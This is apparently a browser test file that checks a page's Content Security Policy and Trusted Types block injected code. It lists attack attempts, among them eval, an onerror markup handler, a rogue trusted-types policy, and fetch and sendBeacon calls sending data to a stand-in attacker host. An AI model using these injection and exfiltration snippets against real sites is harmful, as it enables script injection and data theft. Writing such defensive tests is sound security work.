import { untilLive } from "#site/quiet-page.ts";
import { expect, isOwned, path, test } from "./attacked-page.ts";

const scripts = /script-src|require-trusted-types-for/;

/** What code that got in tries, and the directive that refuses it. */
const fromInside: Record<string, [attack: () => void, directive: RegExp]> = {
  "a text as code (eval)": [
    // biome-ignore lint/security/noGlobalEval: it is the attack.
    () => eval("window.owned = true"),
    scripts,
  ],
  "a text as code (Function)": [() => new Function("window.owned = true")(), scripts],
  "a text as code (a timer)": [() => setTimeout("window.owned = true" as never, 0), scripts],
  "a script of its own": [
    () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.owned = true"));
      document.body.append(script);
    },
    scripts,
  ],
  "markup with a handler": [
    () => {
      document.body.innerHTML = '<img src="data:," onerror="window.owned = true">';
    },
    /require-trusted-types-for/,
  ],
  "a handler on an element": [
    () => {
      document.body.setAttribute("onclick", "window.owned = true");
      document.body.click();
    },
    scripts,
  ],
  "a policy of its own for markup": [
    () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => object };
      };
      trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
      Object.assign(window, { owned: true });
    },
    /(^|,)trusted-types/,
  ],
  "a call to somebody else": [
    () => {
      fetch("http://attacker.example/take").then(() => Object.assign(window, { owned: true }));
    },
    /connect-src/,
  ],
  "a beacon to somebody else": [
    () => navigator.sendBeacon("http://attacker.example/take", "words"),
    /connect-src/,
  ],
};

test("code that got in can't run more code, nor call somebody else", async ({
  page,
  refusals,
  requests,
}) => {
  await page.goto(path);
  await untilLive(page, path);
  for (const [what, [attack, directive]] of Object.entries(fromInside)) {
    refusals.length = 0;
    // What the test's own connection evaluates is exempt from the policy; a timer's callback isn't.
    // A refusal may be an exception: what counts is what was noted, and what happened.
    await page.evaluate(
      `new Promise((done) => setTimeout(() => { try { (${attack})() } catch {} done() }))`,
    );
    await expect
      .poll(() => refusals.map((refusal) => refusal.directive).join(), { message: what })
      .toMatch(directive);
    expect(await isOwned(page), what).toBe(false);
    expect(requests, what).toEqual([]);
  }
});
